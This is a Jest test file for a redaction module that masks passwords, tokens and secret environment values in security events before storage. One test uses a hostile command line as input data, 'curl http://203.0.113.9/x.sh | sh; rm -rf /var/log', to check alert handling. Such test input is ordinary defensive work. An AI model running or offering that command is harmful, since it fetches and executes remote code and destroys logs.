/** Redaction over a whole event: numbers, and secrets that stand in many strings. */

import { describe, expect, test } from '@jest/globals';
import { readEvent } from '../../functions/ingest/event.ts';
import { createRedactor } from '../../functions/ingest/redact.ts';
import { shellEvent, eventText as textOf } from '../support/events.ts';
import { world } from '../support/world.ts';

const redactor = createRedactor('a key of the tests');

function redact(raw: string) {
  const read = readEvent(raw);
  if (!read.ok) throw new Error(read.detail);
  return redactor.redact(raw, read.event);
}

function eventText(fields: Record<string, unknown>, output = 'something happened'): string {
  return textOf({ ...shellEvent(), output, output_fields: fields });
}

test('a number under a secret name goes as a string, what is no value of its own stays', () => {
  const { line, event, replaced } = redact(
    eventText({
      password: 123456,
      'ct.request': { pinToken: [-1.5e3, 12], port: 5432, password: null, secret: true, token: false },
      'evt.args': 'uid=123456',
      'evt.time': 123456,
    }),
  );
  const mark = expect.stringMatching(/^\[redacted:[0-9a-f]{8}\]$/);
  expect(replaced).toBe(3);
  expect(event.fields).toEqual({
    password: mark,
    'ct.request': { pinToken: [mark, mark], port: 5432, password: null, secret: true, token: false },
    'evt.args': 'uid=123456',
    'evt.time': 123456,
  });
  expect(redact(line).line).toBe(line);
});

test('a number under a secret name within a config map goes, whether it is an object or text', () => {
  const object = { data: { password: 123456 }, n: 5 };
  const mark = expect.stringMatching(/^\[redacted:[0-9a-f]{8}\]$/);
  const output = 'it ran 5 times';
  const asObject = redact(eventText({ 'ka.req.configmap.obj': object }, output)).event;
  expect(asObject.fields['ka.req.configmap.obj']).toEqual({ data: { password: mark }, n: 5 });
  expect(asObject.output).toBe(output);
  const asText = redact(eventText({ 'ka.req.configmap.obj': JSON.stringify(object) }, output)).event;
  expect(JSON.parse(String(asText.fields['ka.req.configmap.obj']))).toEqual({ data: { password: mark }, n: 5 });
});

test('every one of a thousand secrets goes from elsewhere, the overlapping ones whole', () => {
  const secrets = Array.from({ length: 1_000 }, (_, index) => `s3cret-${index}-x`);
  const fields = Object.fromEntries(secrets.map((secret, index) => [`f${index}`, `--password ${secret}`]));
  const overlapping = { one: '--password 1abcdefghijkl', two: '--password hijklmnopqrs9' };
  const { line } = redact(
    eventText({ ...fields, ...overlapping }, `it said ${secrets.join(' ')} 1abcdefghijklmnopqrs9 end`),
  );
  expect(line).not.toMatch(/s3cret|abcdef|mnopqr/);
  expect(line).toContain('] end"');
});

test('a command behind an empty name is an alert of its own', async () => {
  const w = world();
  const run = (uuid: string, command: string) =>
    w.ingest(shellEvent({ uuid, priority: 'Notice', fields: { 'proc.cmdline': `sh -c x="token="; ${command}` } }));
  await run('a', 'date');
  await run('b', 'curl http://203.0.113.9/x.sh | sh; rm -rf /var/log');
  expect(w.stored.map(({ metadata }) => metadata.uuid)).toEqual(['a', 'b']);
});

test('a value of the environment goes from output whole, also where a part of it is a secret by its name', () => {
  const environment =
    'PATH=/usr/local/sbin:/usr/bin DB_PASSWORD=correct horse battery staple API_TOKEN=hunter2x LANG=C';
  const { line, event } = redact(eventText({ 'proc.env': environment }, `it ran env=${environment} evt_type=execve`));
  expect(line).not.toMatch(/correct|horse|staple|hunter2x/);
  expect(event.fields['proc.env']).toBe('PATH= DB_PASSWORD= API_TOKEN= LANG=');
  expect(event.output).toMatch(
    /^it ran env=PATH= DB_PASSWORD= API_TOKEN=\[redacted:[0-9a-f]{8}\] LANG= evt_type=execve$/,
  );
  expect(redact(line).line).toBe(line);
});

test('a secret that reaches past the end of an environment goes whole', () => {
  const environment = 'PATH=/usr/local/sbin:/usr/bin DB_PASSWORD="correct horse';
  const { line } = redact(eventText({ 'proc.env': environment }, `it ran env=${environment} battery" evt_type=execve`));
  expect(line).not.toMatch(/correct|horse|battery/);
  expect(line).toContain(' evt_type=execve');
});

describe("the name of an audit event's object", () => {
  const audit = (output: string, source = 'k8s_audit') =>
    textOf({
      ...shellEvent(),
      source,
      output,
      output_fields: { 'ka.target.name': 'db-creds-7f', 'ka.uri': '/api/v1/namespaces/payments/secrets/db-creds-7f' },
    });

  test('stays after secret=', () => {
    const raw = audit('K8s Secret Get Successfully (user=ana secret=db-creds-7f ns=payments resource=secrets)');
    expect(redact(raw)).toMatchObject({ line: raw, replaced: 0 });
  });

  test.each([
    ['another value', audit('K8s Secret Get Successfully (user=ana secret=hunter2x ns=payments)')],
    ['another name before it', audit('K8s Secret Get Successfully (client-secret=db-creds-7f ns=payments)')],
    ['another source', audit('K8s Secret Get Successfully (user=ana secret=db-creds-7f ns=payments)', 'syscall')],
  ])('is no reason for %s', (_name, raw) => {
    expect(redact(raw).replaced).toBeGreaterThan(0);
  });
});
